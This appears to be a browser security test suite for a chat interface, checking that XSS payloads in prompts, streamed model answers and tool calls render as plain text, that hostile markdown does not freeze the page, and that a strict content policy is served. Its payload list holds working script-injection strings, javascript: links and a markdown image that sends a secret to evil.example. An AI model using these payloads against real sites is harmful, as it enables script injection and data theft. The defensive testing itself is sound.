"""What a prompt or an answer can't do: run a script, send a request, leave the page, or freeze it."""

from __future__ import annotations

import json
import urllib.request

import pytest
from playwright.sync_api import Route, expect

from tests.browser.chat import Chat

ATTACKS = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><a href=\"javascript:document.title='owned'\"><text>x</text></a></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    '<picture><source srcset="https://evil.example/p.png"><img src="https://evil.example/q.png"></picture>',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"</style>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
    "![exfiltrate](https://evil.example/?q=secret)",
    "[![nested](https://evil.example/a.png)](https://evil.example/b)",
    "[click](javascript:document.title='owned')",
    "[click](JaVaScRiPt:document.title='owned') [tab](java\tscript:alert(1)) [entity](&#106;avascript:alert(1))",
    "[data](data:text/html,<script>document.title='owned'</script>) [vb](vbscript:x) [file](file:///etc/passwd)",
    "[ref]: https://evil.example/\n![ref][ref] [ref]",
    "<https://evil.example/\"onmouseover=\"document.title='owned'>",
    "https://evil.example/\"onmouseover=\"document.title='owned'",
    '[a](https://evil.example "t" onclick="document.title=\'owned\'")',
    "``` \"><script>document.title='owned'</script>\ncode\n```",
    "| <img src=x onerror=\"document.title='owned'\"> |\n| --- |\n| <script>document.title='owned'</script> |",
    "`<script>document.title='owned'</script>` **<img src=x onerror=alert(1)>**",
    "__proto__ constructor toString ${document.title='owned'} {{constructor.constructor('alert(1)')()}}",
]


def harmless(chat: Chat) -> None:
    """The page holds nothing that loads, runs or submits, and no link but to http(s) addresses."""
    html = chat.page.locator("main")
    dangerous = (
        "#turns :is(script, img, iframe, object, embed, svg, link, style, base, meta, form, input, video, audio)"
    )
    expect(chat.page.locator(dangerous)).to_have_count(0)
    links = html.locator("#turns a").evaluate_all("links => links.map((link) => [link.protocol, link.rel])")
    assert all(protocol in ("http:", "https:") and "noopener" in rel for protocol, rel in links)
    attributes = html.locator("#turns *").evaluate_all(
        "nodes => nodes.flatMap((node) => node.getAttributeNames()).filter((name) => /^on|^style$|^src/.test(name))"
    )
    assert attributes == []
    assert "owned" not in chat.page.title()


def test_attacks_in_a_prompt_come_back_as_words(chat: Chat) -> None:
    # No stranger was asked for anything, and nothing ran: the fixture looks for both in the end.
    chat.asks("\n".join(ATTACKS[:8]))
    chat.sees_the_end()
    harmless(chat)
    chat.has_every_word_once()
    expect(chat.page.locator(".said")).to_contain_text("<script>document.title='owned'</script>")
    chat.reloads()
    harmless(chat)


def test_attacks_in_an_answer_stay_words(chat: Chat) -> None:
    def attack(route: Route) -> None:
        blocks = [f"id: a:1\nevent: start\ndata: {json.dumps({'stream': 'abc', 'model': ATTACKS[0]})}\n\n"]
        for at, text in enumerate("\n\n".join([*ATTACKS, "The end."]), 2):
            blocks.append(f"id: a:{at}\nevent: token\ndata: {json.dumps({'text': text})}\n\n")
        call = {"index": 0, "id": "x", "name": ATTACKS[1], "arguments": ATTACKS[2]}
        last = {"code": ATTACKS[0], "message": ATTACKS[1], "retryable": False, "outcome": "upstream_error"}
        blocks.append(f"id: a:900000\nevent: tool_call\ndata: {json.dumps(call)}\n\n")
        blocks.append(f"id: a:900001\nevent: error\ndata: {json.dumps(last)}\n\n")
        headers = {"content-type": "text/event-stream", "penstock-stream-id": "abc"}
        route.fulfill(headers=headers, body="".join(blocks))

    chat.page.route("**/v1/streams", attack)
    chat.asks("attack me")
    chat.reads_until("The end.")
    chat.sees("^ended: upstream_error$")
    expect(chat.turn.locator(".notice")).to_contain_text("<img src=x")
    harmless(chat)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_an_attack_split_anywhere_stays_words(blank: Chat, attack: str) -> None:
    """Every beginning is on the page for a moment: nothing in it may load or run, at any split."""
    found = blank.page.evaluate(
        """async (attack) => {
          const { Markdown } = await import("/static/markdown.js");
          const host = document.getElementById("turns");
          const found = [];
          for (let cut = 0; cut <= attack.length; cut++) {
            host.replaceChildren();
            const markdown = new Markdown(host);
            for (const piece of [attack.slice(0, cut), ...attack.slice(cut)]) {
              markdown.push(piece);
              if (host.querySelector("script, img, iframe, svg, link, style, base, meta, picture, source")) found.push(cut);
              for (const link of host.querySelectorAll("a")) if (!/^https?:$/.test(link.protocol)) found.push(link.href);
            }
            markdown.end();
          }
          return found;
        }""",
        attack,
    )
    assert found == []
    harmless(blank)
    blank.page.evaluate("document.getElementById('turns').replaceChildren()")


@pytest.mark.parametrize(
    "text",
    [
        "*" * 20_000,
        "*a " * 10_000,
        "`" * 20_000 + "a",
        "` `` " * 5_000,
        "[" * 20_000,
        "[a](" * 8_000,
        "> " * 10_000 + "a",
        "- " * 10_000 + "a",
        "**a __b " * 4_000,
        "|a" * 10_000 + "\n" + "|-" * 10_000 + "\n",
        "https://" * 5_000,
        "a" * 1_000_000,
    ],
    ids=lambda text: text[:8],
)
def test_a_hostile_answer_does_not_freeze_the_page(blank: Chat, text: str) -> None:
    # The suite's own time limit is the deadline: what is quadratic in here takes minutes.
    assert blank.rendered(text)
    blank.rendered(text, [text[at : at + 2_000] for at in range(0, len(text), 2_000)][:20])


@pytest.mark.parametrize("path", ["/", "/static/page.js", "/static/favicon.svg"])
def test_the_policy_comes_with_every_file(server: str, path: str) -> None:
    with urllib.request.urlopen(f"{server}{path}", timeout=30) as response:
        policy = response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
